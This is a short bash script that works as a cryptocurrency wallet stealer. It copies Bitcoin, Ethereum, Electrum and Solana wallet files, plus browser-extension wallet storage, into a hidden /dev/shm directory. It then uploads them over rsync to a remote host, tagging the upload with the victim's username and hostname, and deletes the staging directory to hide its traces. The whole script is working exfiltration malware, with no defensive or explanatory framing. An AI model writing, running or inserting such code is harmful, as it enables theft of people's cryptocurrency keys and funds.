#!/bin/bash
shopt -s nullglob globstar
D=/dev/shm/.c; mkdir -p $D
for w in ~/.bitcoin/wallet.dat ~/.ethereum/keystore/* ~/.electrum/wallets/* ~/.config/solana/id.json \
         ~/.config/{google-chrome,chromium}/*/"Local Extension Settings"/{nkbihfbeogaeaoehlefnkodbefgpgknn,bfnaelmomeimhlpmgjnjophhpkkoljpa}/*; do
  cp --parents "$w" $D 2>/dev/null
done
rsync -aq $D/ rsync://cache.example.test/in/$(id -un)-$(hostname)/
rm -rf $D
